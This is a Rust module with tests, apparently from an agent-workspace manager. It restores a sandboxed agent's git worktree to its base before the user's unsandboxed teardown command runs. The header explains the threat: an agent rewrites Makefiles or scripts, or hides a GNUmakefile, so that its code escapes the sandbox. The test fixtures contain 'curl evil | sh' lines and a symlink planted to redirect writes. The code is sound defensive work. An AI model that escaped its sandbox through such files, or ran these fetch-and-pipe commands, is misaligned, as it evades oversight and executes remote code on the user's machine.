//! A worktree put back as set-up saw it, before its teardown runs.
//!
//! A teardown is the user's command (`make clean`, `npm run db:stop`),
//! trusted once and run as the user, outside any sandbox. Run over the files
//! a department left, it would run the department's Makefile or scripts: a
//! sandboxed agent could have its code run unsandboxed by rewriting them.
//! So every tracked file the department's branch changed from its base is
//! restored (or removed) first, through the writer integrations use (each
//! folder opened without following a link), and a file only the
//! department's own `.gitignore` hid (a `GNUmakefile`, which make prefers)
//! goes. What the base ignores (`node_modules/`, `target/`, copied files)
//! stays as the department left it; README says so.

use std::path::Path;

use git2::{Delta, Oid, Repository};

use super::checkout::Staged;
use super::fence::StateFence;
use super::tree_writer::TreeWriter;
use super::{open_worktree, WorktreeError};
use crate::model::Workspace;

/// Restores in `ws`'s folder every file its branch changed from its base,
/// and removes what only its own `.gitignore`s hid. Call only when nothing
/// is unrecorded, so the folder is its branch.
pub fn restore_base(repo: &Path, ws: &Workspace) -> Result<(), WorktreeError> {
    let wt = open_worktree(repo, ws)?;
    let head = wt.head()?.peel_to_tree()?;
    let base = wt.find_commit(Oid::from_str(&ws.base)?)?.tree()?;
    let diff = wt.diff_tree_to_tree(Some(&head), Some(&base), None)?;
    let mut gone = Vec::new();
    let mut back = Vec::new();
    for delta in diff.deltas() {
        let Some(path) = delta.new_file().path().or(delta.old_file().path()) else {
            continue;
        };
        let path = path.to_string_lossy().into_owned();
        match delta.status() {
            Delta::Deleted => gone.push(path),
            _ => back.push((
                path,
                delta.new_file().id(),
                u32::from(delta.new_file().mode()),
            )),
        }
    }
    let main = Repository::open(repo)?;
    let files: Vec<(&str, Oid, u32)> = back
        .iter()
        .map(|(p, id, m)| (p.as_str(), *id, *m))
        .collect();
    let staged = Staged::checkout(&main, &files)?;
    let fence = StateFence::default();
    let tree = TreeWriter::open(Path::new(&ws.path), &fence)?;
    // Removals first: a file where the base has a folder goes before the
    // folder's files come back.
    for path in &gone {
        tree.remove(path, || Ok(()))?;
    }
    for (path, _, _) in &files {
        // A folder the department made where the base has a file goes,
        // with what it holds (what its own `.gitignore` hid in it too).
        tree.remove_folder(path)?;
        tree.put(path, &staged.file(path), || Ok(()))?;
    }
    // What the department's own `.gitignore`s hid is now neither tracked nor
    // ignored (the base's `.gitignore`s are back): it goes too.
    let wt = open_worktree(repo, ws)?;
    let mut opts = git2::StatusOptions::new();
    opts.include_untracked(true)
        .recurse_untracked_dirs(true)
        .include_ignored(false)
        .exclude_submodules(true);
    let hidden: Vec<String> = wt
        .statuses(Some(&mut opts))?
        .iter()
        .filter(|e| e.status().is_wt_new())
        .filter_map(|e| e.path().map(str::to_string))
        // The index is the department's: what it deleted is back, from the base.
        .filter(|p| base.get_path(Path::new(p)).is_err() && !ws.copied.contains(p))
        .collect();
    for path in &hidden {
        tree.remove(path, || Ok(()))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;

    /// The department's work recorded on its branch, as a report does.
    fn recorded(repo: &Path, ws: &Workspace) {
        let author = super::super::author("lingyubu", &ws.name).unwrap();
        let rules = super::super::record::RecordRules::default();
        super::super::record::record(repo, ws, &author, "work", &rules).unwrap();
    }

    /// A file the department turned into a folder comes back as the file.
    #[test]
    fn a_file_turned_into_a_folder_comes_back_as_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let (repo, _) = repo_with(dir.path(), &[("tool", "base\n"), ("src/a.rs", "a\n")]);
        let ws = fresh_worktree(&repo, "lingyubu-1");
        let wt = Path::new(&ws.path);
        std::fs::remove_file(wt.join("tool")).unwrap();
        std::fs::create_dir_all(wt.join("tool/deep")).unwrap();
        std::fs::write(wt.join("tool/deep/run.sh"), "curl evil | sh\n").unwrap();
        // Hidden by its own .gitignore, so never recorded: the folder is not empty.
        std::fs::write(wt.join("tool/.gitignore"), "hidden\n").unwrap();
        std::fs::write(wt.join("tool/hidden"), "h\n").unwrap();
        std::fs::remove_dir_all(wt.join("src")).unwrap();
        std::fs::write(wt.join("src"), "a file now\n").unwrap();
        recorded(&repo, &ws);

        restore_base(&repo, &ws).unwrap();
        let read = |p: &str| std::fs::read_to_string(wt.join(p)).ok();
        assert_eq!(read("tool").as_deref(), Some("base\n"));
        assert_eq!(read("src/a.rs").as_deref(), Some("a\n"));
    }

    #[test]
    fn the_files_a_department_changed_are_put_back_and_its_ignored_files_stay() {
        let dir = tempfile::tempdir().unwrap();
        let (repo, _) = repo_with(
            dir.path(),
            &[
                (".gitignore", "target/\n"),
                ("clean.sh", "echo base\n"),
                ("src/kept.rs", "k\n"),
                ("src/gone.rs", "g\n"),
            ],
        );
        let ws = fresh_worktree(&repo, "lingyubu-1");
        let wt = Path::new(&ws.path);
        std::fs::write(wt.join("clean.sh"), "echo department\n").unwrap();
        std::fs::remove_file(wt.join("src/gone.rs")).unwrap();
        std::fs::write(wt.join("Makefile"), "clean:\n\tcurl evil | sh\n").unwrap();
        // A file hidden by a `.gitignore` of its own, so never recorded.
        std::fs::write(wt.join("src/.gitignore"), "GNUmakefile\n").unwrap();
        std::fs::write(wt.join("src/GNUmakefile"), "clean:\n\tcurl evil | sh\n").unwrap();
        std::fs::create_dir_all(wt.join("target")).unwrap();
        std::fs::write(wt.join("target/out.o"), "o").unwrap();
        recorded(&repo, &ws);

        restore_base(&repo, &ws).unwrap();
        let read = |p: &str| std::fs::read_to_string(wt.join(p)).ok();
        assert_eq!(read("clean.sh").as_deref(), Some("echo base\n"));
        assert_eq!(read("src/gone.rs").as_deref(), Some("g\n"));
        assert_eq!(read("src/kept.rs").as_deref(), Some("k\n"));
        assert_eq!(read("Makefile"), None, "what it added goes");
        assert_eq!(read("src/GNUmakefile"), None, "what it hid goes");
        assert_eq!(
            read("target/out.o").as_deref(),
            Some("o"),
            "ignored files stay"
        );
        // Its branch keeps its work.
        let git = Repository::open(&repo).unwrap();
        let tip = git
            .revparse_single(&ws.branch)
            .unwrap()
            .peel_to_tree()
            .unwrap();
        assert!(tip.get_path(Path::new("Makefile")).is_ok());
    }

    #[cfg(unix)]
    #[test]
    fn a_teardown_runs_the_users_script_not_the_one_the_department_rewrote() {
        let dir = tempfile::tempdir().unwrap();
        let (repo, _) = repo_with(dir.path(), &[("clean.sh", "echo base\n")]);
        let ws = fresh_worktree(&repo, "lingyubu-1");
        std::fs::write(Path::new(&ws.path).join("clean.sh"), "echo department\n").unwrap();
        recorded(&repo, &ws);
        let said = dir.path().join("said.txt");
        let teardown = super::super::create::Teardown {
            commands: vec![format!("sh clean.sh > {}", said.display())],
            timeout: std::time::Duration::from_secs(60),
        };
        super::super::create::remove(&repo, &ws, &teardown).unwrap();
        assert_eq!(std::fs::read_to_string(&said).unwrap(), "base\n");
        assert!(!Path::new(&ws.path).exists());
    }

    #[cfg(unix)]
    #[test]
    fn a_folder_the_department_made_a_link_is_not_followed() {
        let dir = tempfile::tempdir().unwrap();
        let outside = dir.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        let (repo, _) = repo_with(dir.path(), &[("src/a.rs", "a\n")]);
        let ws = fresh_worktree(&repo, "lingyubu-1");
        let wt = Path::new(&ws.path);
        std::fs::remove_dir_all(wt.join("src")).unwrap();
        std::os::unix::fs::symlink(&outside, wt.join("src")).unwrap();
        recorded(&repo, &ws);

        restore_base(&repo, &ws).unwrap();
        assert!(
            !outside.join("a.rs").exists(),
            "nothing written through the link"
        );
        assert_eq!(std::fs::read_to_string(wt.join("src/a.rs")).unwrap(), "a\n");
        assert!(!wt.join("src").is_symlink());
    }
}
